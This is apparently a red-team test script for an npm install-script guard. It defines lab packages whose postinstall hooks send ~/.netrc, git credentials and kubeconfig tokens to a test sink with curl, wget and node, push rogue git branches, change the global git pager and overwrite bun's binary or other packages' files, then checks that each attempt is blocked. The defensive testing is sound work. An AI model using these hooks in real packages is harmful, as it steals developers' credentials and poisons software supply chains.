#!/bin/bash
# R46: exceptions that rules make for honest packages, by name or place, must not permit attacks:
# bun's program, prisma's generated client, Python's compiled modules, node_modules/.cache; and
# other packages that take an excepted name. And through the exceptions for programs: git, curl and
# wget read files with credentials for whoever calls them. Files that only a variable names.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R46 'through the exceptions'
good() { # NAME FILE...: a package without a script, with files that hold "good"
	local name=$1 file
	shift
	for file; do
		mkdir -p "$(dirname "$LAB/packages/$name/$file")" &&
			echo good >"$LAB/packages/$name/$file"
	done
	rt_package -p "$name" 1.0.0 - - ''
}
good victim-x one.js two.js three.js mod.py
good @oven/bun-linux-x64 bin/bun
PLANT='echo evil >evil'
# They have a name that an exception names, and change what the exception does not cover.
rt_package bun 9.0.0 - postinstall 'echo evil >>../victim-x/one.js'
rt_package prisma 9.0.0 - postinstall 'echo evil >>../victim-x/two.js'
rt_package deno 9.0.0 - postinstall 'rm -f ../.bin/semver; echo evil >../.bin/semver'
rt_package husky 4.9.9 - postinstall 'git config --global core.pager evil'
# They change what an exception covers, and have another name.
rt_package take-bun-x 1.0.0 - postinstall "$PLANT; mv -f evil ../@oven/bun-linux-x64/bin/bun"
rt_package append-bun-x 1.0.0 - postinstall 'echo evil >>../@oven/bun-linux-x64/bin/bun'
rt_package client-x 1.0.0 - postinstall \
	'mkdir -p ../.prisma/client; echo evil >../.prisma/client/index.js'
# Writes something other than a compiled module into __pycache__.
rt_package pycache-x 1.0.0 - postinstall \
	'mkdir ../victim-x/__pycache__; echo evil >../victim-x/__pycache__/index.js'
RT_QUIET=(module-x cache-x)
rt_package module-x 1.0.0 - postinstall \
	'd=../victim-x/__pycache__; mkdir -p $d; echo evil >$d/mod.cpython-311.pyc; true'
rt_package cache-x 1.0.0 - postinstall \
	'mkdir -p ../.cache/loader && echo evil >../.cache/loader/x.json'

# Programs that read a credential by themselves, and show or send it.
rt_package curl-x 1.0.0 - postinstall \
	"ln -s ~/.netrc n; curl -s --data-binary @n http://$RT_SINK/c; true"
rt_package named-x 1.0.0 - postinstall \
	"curl -sG --data-urlencode n@\$HOME/.netrc http://$RT_SINK/n; true"
rt_package wget-x 1.0.0 - postinstall \
	"ln -s ~/.netrc n; wget -qO /dev/null --post-file=n http://$RT_SINK/w; true"
rt_package diff-x 1.0.0 - postinstall \
	"git diff --no-index /dev/null ~/.netrc >n
	curl -s --data-binary @n http://$RT_SINK/d; true"
rt_package config-x 1.0.0 - postinstall "cd \$INIT_CWD && git var -l >/tmp/config-x && \
	curl -s --data-binary @/tmp/config-x http://$RT_SINK/g; true"
rt_package list-x 1.0.0 - postinstall "cd \$INIT_CWD && git config --list >/tmp/list-x && \
	curl -s --data-binary @/tmp/list-x http://$RT_SINK/l; true"
rt_package push-x 1.0.0 - postinstall \
	"cd \$INIT_CWD && git -c alias.p=push p -q $LAB/job/origin HEAD:refs/heads/evil; true"
rt_package fs-x 1.0.0 - postinstall \
	"node -e \"const {post} = require('./kit.js')
	post('/f', fs.readFileSync(process.env.INIT_CWD + '/.git/config', 'utf8'))\"; true"
rt_package named-git-x 1.0.0 - postinstall \
	"cp \$(command -v cat) git; ./git \$INIT_CWD/.git/config >c; \
	curl -s --data-binary @c http://$RT_SINK/h; true"
rt_package kube-x 1.0.0 - postinstall \
	"node -e \"const {post} = require('./kit.js')
	post('/k', fs.readFileSync(process.env.KUBECONFIG, 'utf8'))\""
rt_package agent-x 1.0.0 - postinstall \
	"node -e \"net.connect(process.env.SSH_AUTH_SOCK).on('connect', process.exit)\"; true"
# Honest: looks for the project's address, as nx does.
RT_QUIET+=(remote-x)
rt_package remote-x 1.0.0 - postinstall 'grep -c url $INIT_CWD/.git/config; true'
# Honest: looks for it among all settings.
RT_QUIET+=(settings-x)
rt_package settings-x 1.0.0 - postinstall 'cd $INIT_CWD && git config -l | grep -c url;
	git config --get-regexp "^remote" | grep -c url; true'
# Honest: what git does without showing anything, and a download.
RT_QUIET+=(git-x)
rt_package git-x 1.0.0 - postinstall "(cd \$INIT_CWD && git rev-parse HEAD && git status -s) && \
	git clone -q file://$LAB/job/origin c && wget -qO /dev/null http://$RT_SINK/get; true"
RT_ENV+=(KUBECONFIG="$LAB/job/kube.yaml" SSH_AUTH_SOCK="$LAB/job/agent.sock")
rt_setup() {
	local token=checkout-token-$LAB_MARK kube=kube-token-$LAB_MARK
	rt_canary checkout-token "$token"
	rt_canary kube-token "$kube"
	rm -rf "$LAB/job" && mkdir "$LAB/job" && chown "$LAB_UID:$LAB_GID" "$LAB/job"
	echo "users: [{token: $kube}]" >"$LAB/job/kube.yaml"
	lab_as_user / git init -q --bare "$LAB/job/origin"
	lab_as_user / env -u WS_LAB_MARK node -e "
		net.createServer().listen('$LAB/job/agent.sock')
		setTimeout(() => process.exit(), 120000).unref()" &
	LAB_PIDS+=($!)
	lab_wait_file "$LAB/job/agent.sock" $!
	lab_as_user "$RT_PROJECT" git init -q
	lab_as_user "$RT_PROJECT" git commit -q --allow-empty -m x
	lab_as_user "$RT_PROJECT" git config http.https://example.invalid/.extraheader \
		"AUTHORIZATION: basic $token"
}

modules() { echo "$RT_PROJECT/node_modules"; }
evil() {
	grep -rlx evil "$(modules)" --include='*.js' --include=bun --include='*.pyc' \
		--include='*.json' | wc -l
}

rt_control
rt_leaked .netrc checkout-token kube-token
rt_ok 'a branch was pushed' lab_as_user / git -C "$LAB/job/origin" rev-parse -q --verify evil
rt_is 'files with planted code' "$(evil)" 7
rt_is 'a pager for git' "$(lab_as_user "$RT_PROJECT" git config --global core.pager)" evil
rt_is 'another program for bun' "$(head -n 1 "$(modules)/@oven/bun-linux-x64/bin/bun")" evil

if rt_guarded; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_accused bun '^other-package-write$'
	rt_accused prisma '^other-package-write$'
	rt_accused deno '^bin-shim-write$'
	rt_accused husky '^git-config-write$'
	rt_accused take-bun-x '^bun-binary-move$'
	rt_accused append-bun-x '^bun-binary-write$'
	rt_accused client-x '^prisma-write$'
	for file in one.js two.js; do
		rt_is "$file of the victim" "$(cat "$(modules)/victim-x/$file")" good
	done
	rt_is 'the generated client' "$(cat "$(modules)/.prisma/client/index.js" 2>/dev/null)" ''
	rt_is 'no code beside the modules' \
		"$(cat "$(modules)/victim-x/__pycache__/index.js" 2>/dev/null)" ''
	# These are reported without an accusation.
	rt_ok 'the compiled module is reported' \
		[ -n "$(rt_events wormsign.verdict=hide package.name=module-x \
		rule.id=python-cache)" ]
	rt_ok 'the cache is reported' \
		[ -n "$(rt_events wormsign.verdict=alert package.name=cache-x \
		rule.id=shared-cache-write)" ]
	rt_accused kube-x '^environment-credentials$'
	rt_accused push-x '^git-push$'
	rt_accused agent-x '^docker-and-system-sockets$'
	rt_accused diff-x '^credential-file-named$'
	rt_accused named-x '^credential-file-named$'
	for name in curl-x wget-x; do
		rt_ok "$name is kept out: netrc-hidden" \
			[ -n "$(rt_events rule.id=netrc-hidden wormsign.effect=refused \
			"package.name=$name")" ]
	done
	rt_kept_out fs-x 'git-token-(absent|read)'
	rt_kept_out named-git-x git-token-hidden
	rt_kept_out config-x git-token-hidden
	rt_kept_out list-x git-token-hidden
	# ~/.gitconfig holds none, and git shows it: a name and an address
	rt_is 'credentials at the sink' "$(lab_leaked web | grep -vxF .gitconfig)" ''
	rt_ok 'no branch was pushed' [ -z "$(lab_as_user / git -C "$LAB/job/origin" for-each-ref)" ]
	for name in "${RT_QUIET[@]}"; do
		rt_is "$name is not accused" \
			"$(rt_events 'wormsign.verdict~^(deny|kill|stop)$' "package.name=$name")" ''
	done
	if [ "$(rt_backend)" = deny ]; then
		rt_is 'the program of bun' "$(cat "$(modules)/@oven/bun-linux-x64/bin/bun")" good
		rt_ok 'no compiled module' [ ! -e "$(modules)/victim-x/__pycache__" ]
	else
		# watch could not refuse the directory before it
		rt_accused pycache-x '^other-package-write$'
	fi
	rt_no_innocent_accused
	rt_no_survivors
	rt_honest_installed
fi
rt_end
